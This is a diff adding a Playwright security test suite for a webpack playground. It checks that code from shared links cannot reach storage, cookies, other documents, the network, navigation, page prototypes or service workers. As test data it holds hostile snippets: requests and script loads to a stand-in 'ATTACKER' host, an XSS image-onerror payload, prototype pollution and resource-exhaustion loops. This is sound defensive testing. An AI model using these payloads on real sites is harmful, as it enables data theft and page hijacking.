@@ -1,0 +1,342 @@
+/** A shared link with somebody's hostile code, after the visitor has pressed Run: in the build and in the bundle. */
+import type { Page } from 'playwright-core';
+import { playground } from '../../config/playground';
+import { writeProjectHash } from '../../ui/playground/state/project-link';
+import { startLocalServer, type LocalServer } from '../local-server';
+import type { Visit } from './support/start-site';
+import { startWorkerSite, untilControlled } from './support/worker-site';
+
+/** Another host, which answers everything that reaches it; ATTACKER is its origin. */
+let attacker: LocalServer;
+const hits: string[] = [];
+beforeAll(async () => {
+  attacker = await startLocalServer((request, response) => {
+    hits.push(request.url ?? '');
+    response.writeHead(200, { 'access-control-allow-origin': '*' }).end();
+  });
+  await fetch(`${attacker.url}/works`);
+  expect(hits.splice(0)).toEqual(['/works']);
+});
+afterAll(() => attacker.close());
+const withAttacker = (code: string): string =>
+  code
+    .replaceAll('https://ATTACKER', attacker.url)
+    .replaceAll('wss://ATTACKER', attacker.url.replace('http', 'ws'));
+
+/** Statements that throw where they are stopped, by what they try. */
+type Attempts = Readonly<Record<string, string>>;
+
+interface Attack {
+  /** In the configuration, which runs in a worker. */
+  readonly build?: Attempts;
+  /** In the bundle, which runs in a document. */
+  readonly bundle?: Attempts;
+}
+
+/** Both run them one after the other, and print which were not stopped. */
+const attempt = (attempts: Attempts): string =>
+  Object.entries(attempts)
+    .map(([name, code]) => `try { ${code}; reached.push(${JSON.stringify(name)}); } catch {}`)
+    .join('\n');
+
+const link = async (build: string, bundle: string): Promise<string> => {
+  const files = [
+    { path: 'webpack.config.cjs', text: withAttacker(build) },
+    { path: 'src/index.js', text: withAttacker(bundle) },
+  ];
+  const hash = await writeProjectHash({ files, open: 'src/index.js', mode: null });
+  return `/playground/${hash}`;
+};
+
+const hostileLink = ({ build = {}, bundle = {} }: Attack): Promise<string> =>
+  link(
+    `const { DefinePlugin } = require('webpack');
+module.exports = async () => {
+  const reached = [];
+  ${attempt(build)}
+  const plugins = [new DefinePlugin({ BUILD: JSON.stringify(reached.join()) })];
+  return { mode: 'none', entry: './src/index.js', plugins };
+};`,
+    `(async () => {
+  const reached = [];
+  ${attempt(bundle)}
+  console.log('reached by the build: ' + JSON.stringify(BUILD) + ', by the bundle: ' + JSON.stringify(reached.join()));
+})();`,
+  );
+
+const consoleOf = (page: Page) => page.getByRole('log', { name: 'Console' });
+const status = (page: Page, text: string | RegExp) => page.getByRole('status').filter({ hasText: text });
+
+/** Opens a link, and presses Run. */
+async function run({ page, open }: Pick<Visit, 'page' | 'open'>, url: string): Promise<void> {
+  await open(url);
+  await page.getByText('somebody else’s code').waitFor();
+  await page.getByRole('button', { name: 'Run', exact: true }).click();
+}
+
+/** The page has not moved, and builds what the visitor types. */
+async function expectUsable({ page, context }: Pick<Visit, 'page' | 'context'>): Promise<void> {
+  expect(new URL(page.url()).pathname).toBe('/playground/');
+  expect(context.pages()).toHaveLength(1);
+  await page.getByRole('combobox', { name: 'Example' }).selectOption('tree-shaking');
+  await page.getByRole('button', { name: 'Run', exact: true }).click();
+  await status(page, /Built in \d+ ms\./).waitFor();
+  await page.getByRole('tab', { name: 'Files' }).last().click();
+  await page.getByRole('button', { name: 'dist/main.js' }).waitFor();
+}
+
+async function expectNothingReached(
+  visit: Pick<Visit, 'page' | 'context' | 'open'>,
+  attack: Attack,
+): Promise<void> {
+  const { page } = visit;
+  await run(visit, await hostileLink(attack));
+  await status(page, /Built in \d+ ms/).waitFor({ timeout: 30_000 });
+  await page.getByRole('tab', { name: 'Result' }).click();
+  const report = consoleOf(page).getByText('reached by the build: ');
+  await report.waitFor();
+  expect(await report.textContent()).toBe('reached by the build: "", by the bundle: ""');
+  expect(hits.splice(0)).toEqual([]);
+  await expectUsable(visit);
+}
+
+const { test } = startWorkerSite();
+const EXPECTED = { mayThrow: true, timeout: 60_000 } as const;
+
+test('reads no storage', EXPECTED, async (visit) => {
+  await visit.open('/');
+  await visit.page.evaluate(() => {
+    localStorage.setItem('secret', '1');
+    sessionStorage.setItem('secret', '1');
+  });
+  const databases =
+    "await new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = fail; })";
+  const shared = {
+    databases,
+    caches: "await caches.open('x')",
+    files: 'await navigator.storage.getDirectory()',
+  };
+  await expectNothingReached(visit, {
+    build: { ...shared, local: 'localStorage.getItem("secret").length' },
+    bundle: {
+      ...shared,
+      local: 'localStorage.getItem("secret").length',
+      session: 'sessionStorage.getItem("secret").length',
+      written: 'localStorage.setItem("playground", "[]")',
+    },
+  });
+  expect(await visit.page.evaluate(() => localStorage.getItem('secret'))).toBe('1');
+});
+
+test('reads and sets no cookies', EXPECTED, async (visit) => {
+  await visit.open('/');
+  await visit.page.evaluate(() => void (document.cookie = 'secret=1; path=/'));
+  await expectNothingReached(visit, {
+    build: { document: 'document.cookie', store: 'await cookieStore.getAll()' },
+    bundle: {
+      read: 'document.cookie.length',
+      write: 'document.cookie = "hostile=1; path=/"',
+      store: 'await cookieStore.set("hostile", "1")',
+    },
+  });
+  expect(await visit.page.evaluate(() => document.cookie)).not.toContain('hostile');
+});
+
+test('reaches no other document', EXPECTED, async (visit) => {
+  await expectNothingReached(visit, {
+    build: { parent: 'parent.document', opener: 'opener.document' },
+    bundle: {
+      parent: 'parent.document.body',
+      top: 'top.document.body',
+      storage: 'parent.localStorage.length',
+      element: 'frameElement.ownerDocument',
+      sibling: 'parent.frames[1].document.body',
+      own: 'const f = document.createElement("iframe"); f.src = "/"; document.body.append(f); await new Promise((done) => f.onload = done); f.contentDocument.body',
+    },
+  });
+});
+
+test('opens no windows', EXPECTED, async (visit) => {
+  const click = (target: string, href: string): string =>
+    `const a = document.createElement('a'); a.href = '${href}'; a.target = '${target}'; document.body.append(a); a.click()`;
+  const submit = `const f = document.createElement('form'); f.action = '/vote/'; f.target = '_blank'; document.body.append(f); f.submit()`;
+  // A click says nothing of what has become of it: what counts is that no window has opened.
+  await expectNothingReached(visit, {
+    bundle: {
+      own: 'open("/vote/").document',
+      foreign: 'open("https://ATTACKER/").closed',
+      link: `${click('_blank', '/vote/')}; throw 1`,
+      foreignLink: `${click('_blank', 'https://ATTACKER/')}; throw 1`,
+      topLink: `${click('_top', '/vote/')}; throw 1`,
+      parentLink: `${click('_parent', 'https://ATTACKER/')}; throw 1`,
+      form: `${submit}; throw 1`,
+      dialog: 'if (confirm("?") || prompt("?") !== null) 1; else throw 1',
+    },
+  });
+});
+
+test('makes no requests', EXPECTED, async (visit) => {
+  const both: Attempts = {
+    fetch: 'const r = await fetch("/search/index.json"); if (!r.ok) throw 1',
+    foreign: 'await fetch("https://ATTACKER/", { mode: "no-cors" })',
+    request: 'const r = new XMLHttpRequest(); r.open("GET", "https://ATTACKER/", false); r.send()',
+    socket:
+      'await new Promise((done, fail) => { const s = new WebSocket("wss://ATTACKER"); s.onopen = done; s.onerror = fail; })',
+    events:
+      'await new Promise((done, fail) => { const s = new EventSource("https://ATTACKER/"); s.onopen = done; s.onerror = fail; })',
+    module: 'await import(/* webpackIgnore: true */ "https://ATTACKER/a.js")',
+    worker:
+      'await new Promise((done, fail) => { const w = new Worker("https://ATTACKER/a.js"); w.onmessage = done; w.onerror = fail; })',
+  };
+  const load = (tag: string, name: string, url: string): string =>
+    `await new Promise((done, fail) => { const e = document.createElement('${tag}'); e.onload = done; e.onerror = fail; e.${name} = '${url}'; document.body.append(e); })`;
+  await expectNothingReached(visit, {
+    build: {
+      ...both,
+      script: 'importScripts("https://ATTACKER/a.js")',
+      siteScript: 'importScripts("/boot.js")',
+    },
+    bundle: {
+      ...both,
+      beacon: 'if (!navigator.sendBeacon("https://ATTACKER/")) throw 1; throw 1',
+      image: load('img', 'src', 'https://ATTACKER/a.png'),
+      siteImage: load('img', 'src', '/icon.svg'),
+      script: load('script', 'src', 'https://ATTACKER/a.js'),
+      siteScript: load('script', 'src', '/boot.js'),
+      preload: `const e = document.createElement('link'); e.rel = 'preload'; e.as = 'image'; e.href = 'https://ATTACKER/p.png'; document.head.append(e); throw 1`,
+      styles: `document.body.style.background = 'url(https://ATTACKER/c.png)'; throw 1`,
+      media: `await new Audio('https://ATTACKER/a.mp3').play()`,
+    },
+  });
+});
+
+test('leads neither the page nor its own frame elsewhere', EXPECTED, async (visit) => {
+  await expectNothingReached(visit, {
+    bundle: {
+      top: 'top.location = "/vote/"',
+      parent: 'parent.location.href = "https://ATTACKER/"',
+      replace: 'top.location.replace("/vote/")',
+      history: 'top.history.back()',
+      close: 'top.close(); throw 1',
+    },
+  });
+  const { page, context } = visit;
+  const leave = 'console.log("leaves"); location.href = "https://ATTACKER/?" + origin;';
+  await run(visit, await link('module.exports = { mode: "none" };', leave));
+  await status(page, /Built in \d+ ms/).waitFor();
+  await page.getByRole('tab', { name: 'Result' }).click();
+  await consoleOf(page).getByText('leaves').waitFor();
+  await page.getByText('The bundle did not answer for 5 seconds').waitFor();
+  expect(hits.splice(0)).toEqual([]);
+  await expectUsable({ page, context });
+});
+
+test('posts no message that the page believes', EXPECTED, async (visit) => {
+  const { page, context } = visit;
+  const markup = '<img src=x onerror="window.isHacked = 1">';
+  const outcome = {
+    type: 'built',
+    configuration: 'data',
+    files: [{ path: markup, bytes: [] }],
+    statsText: markup,
+    graphs: [],
+    problems: [{ severity: 'error', message: markup, file: '__proto__', line: 1 }],
+    duration: 1,
+  };
+  const forged = [
+    null,
+    { type: 'outcome' },
+    { type: 'outcome', id: { valueOf: 1 }, outcome },
+    { workerError: markup },
+    { type: 'progress', id: 1, progress: { step: 'load', part: markup, bytes: 'x' } },
+  ].map((message) => `self.postMessage(${JSON.stringify(message)});`);
+  const build = `
+for (let id = 0; id < 9; id += 1) {
+  const outcome = ${JSON.stringify(outcome)};
+  for (const file of outcome.files) file.bytes = new Uint8Array(1);
+  self.postMessage({ type: 'outcome', id, outcome });
+}
+${forged.join('\n')}
+module.exports = () => ({ mode: 'none' });`;
+  await run(visit, await link(build, ''));
+  // Its own build may end with what it says: the page shows it as text.
+  await page.getByText(markup).first().waitFor();
+  expect(await page.evaluate(() => 'isHacked' in window)).toBe(false);
+  await expectUsable({ page, context });
+
+  const messages = ['SKIP_WAITING', 'outcome', 'pong'].map((type) => ({ type, id: 1, outcome }));
+  const post = `for (const message of ${JSON.stringify(messages)}) { top.postMessage(message, '*'); parent.postMessage(message, '*', [new MessageChannel().port1]); }
+console.log(${JSON.stringify(markup)});`;
+  await run(visit, await link('module.exports = { mode: "none" };', post));
+  await status(page, /Built in \d+ ms/).waitFor();
+  await page.getByRole('tab', { name: 'Result' }).click();
+  await consoleOf(page).getByText(markup).waitFor();
+  expect(await page.evaluate(() => 'isHacked' in window)).toBe(false);
+  await expectUsable({ page, context });
+});
+
+test('changes no prototype of the page', EXPECTED, async (visit) => {
+  const { page, context } = visit;
+  const trick = (target: string): string =>
+    `${target}.polluted = 1; Array.prototype.map = null; Promise.prototype.then = null`;
+  await run(
+    visit,
+    await link(`${trick('Object.prototype')}\nmodule.exports = () => ({ mode: 'none' });`, ''),
+  );
+  await status(page, /Not built|Built in/).waitFor({ timeout: 30_000 });
+  expect(await page.evaluate(() => 'polluted' in {})).toBe(false);
+  await expectUsable({ page, context });
+  const data = `module.exports = { mode: 'none', ['__proto__']: { polluted: 1 }, constructor: { prototype: { polluted: 1 } } };`;
+  const emit = `module.exports = { mode: 'none', plugins: [{ apply(compiler) { compiler.hooks.thisCompilation.tap('a', (c) => {
+    c.hooks.processAssets.tap('a', () => c.emitAsset('__proto__', new (require('webpack').sources.RawSource)('polluted'))); }); } }] };`;
+  for (const config of [data, emit]) {
+    await run(visit, await link(config, `Object.prototype.polluted = 1; console.log('ran');`));
+    await status(page, /Not built|Built in/).waitFor();
+    expect(await page.evaluate(() => 'polluted' in {})).toBe(false);
+  }
+  await expectUsable({ page, context });
+});
+
+test('a build that never ends is ended', EXPECTED, async (visit) => {
+  const { page, context } = visit;
+  await page.clock.install();
+  await run(visit, await link('for (;;) {}\nmodule.exports = {};', ''));
+  await status(page, '0 %').waitFor();
+  await page.clock.fastForward(playground.buildLimit + 1000);
+  await page.getByText('The build took longer than 20 seconds and was ended').waitFor();
+  expect(await page.locator('iframe').count()).toBe(0);
+  await expectUsable({ page, context });
+});
+
+test('a build and a bundle that take a gigabyte end with an error, or go on', EXPECTED, async (visit) => {
+  const { page, context } = visit;
+  const take = `const all = []; for (let i = 0; i < 1024; i += 1) all.push(new Uint8Array(2 ** 20).fill(1));`;
+  const config = `${take}\nmodule.exports = () => ({ mode: 'none' });`;
+  await run(visit, await link(config, `${take}\nconsole.log('took ' + all.length);`));
+  await status(page, /Not built|Built in/).waitFor({ timeout: 40_000 });
+  await page.getByRole('tab', { name: 'Result' }).click();
+  await page
+    .getByText(/took 1024|did not answer|RangeError|could not be fetched/)
+    .first()
+    .waitFor();
+  await expectUsable({ page, context });
+});
+
+test('registers no service worker, and reaches not that of the site', EXPECTED, async (visit) => {
+  const { page, host } = visit;
+  await visit.open('/playground/');
+  await untilControlled(page);
+  const register = 'await navigator.serviceWorker.register("/sw.js")';
+  await expectNothingReached(visit, {
+    build: { register },
+    bundle: {
+      register,
+      list: 'await navigator.serviceWorker.getRegistrations()',
+      message: 'navigator.serviceWorker.controller.postMessage({ type: "SKIP_WAITING" })',
+    },
+  });
+  const scopes = await page.evaluate(async () =>
+    (await navigator.serviceWorker.getRegistrations()).map(({ scope, active }) => [scope, active?.scriptURL]),
+  );
+  expect(scopes).toEqual([[`${host.url}/`, `${host.url}/sw.js`]]);
+});
